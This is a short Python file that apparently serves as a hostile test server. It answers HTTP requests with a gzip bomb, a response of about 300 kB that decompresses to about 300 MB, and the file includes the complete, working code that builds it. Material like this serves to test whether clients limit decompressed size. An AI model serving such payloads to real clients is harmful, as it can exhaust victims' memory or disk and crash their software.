"""Sends a good reply of 300 MB (`HOSTILE_SIZE` bytes) that is some 300 kB on the wire."""

import socket
import struct
import zlib

from wellbehaved import Request, Server, reply_to, respond, size, text

BLOCK = b"x" * (1 << 20)
MARK = b"PUT IT HERE"


def bomb(reply: bytes, total: int) -> bytes:
    """`reply` as gzip, with `total` times `x` where the mark is."""
    before, _, after = reply.partition(MARK)
    # A block flushed in full refers to nothing before it, so compressing one is enough for all.
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    first = squeeze.compress(before) + squeeze.flush(zlib.Z_FULL_FLUSH)
    block = squeeze.compress(BLOCK) + squeeze.flush(zlib.Z_FULL_FLUSH)
    blocks, rest = divmod(total, len(BLOCK))
    last = squeeze.compress(BLOCK[:rest] + after) + squeeze.flush()
    checksum = zlib.crc32(before)
    for _ in range(blocks):
        checksum = zlib.crc32(BLOCK, checksum)
    checksum = zlib.crc32(BLOCK[:rest] + after, checksum)
    length = len(before) + total + len(after)
    header = b"\x1f\x8b\x08\0\0\0\0\0\0\xff"
    return header + first + block * blocks + last + struct.pack("<II", checksum, length)


class GzipBomb(Server):
    """Sends little and means a lot."""

    def misbehave(self, connection: socket.socket, request: Request) -> None:
        """A thousand times more than it seems."""
        body = bomb(reply_to(request, text(MARK.decode())), size(300_000_000))
        respond(connection, body, Content_Encoding="gzip")


GzipBomb().run()
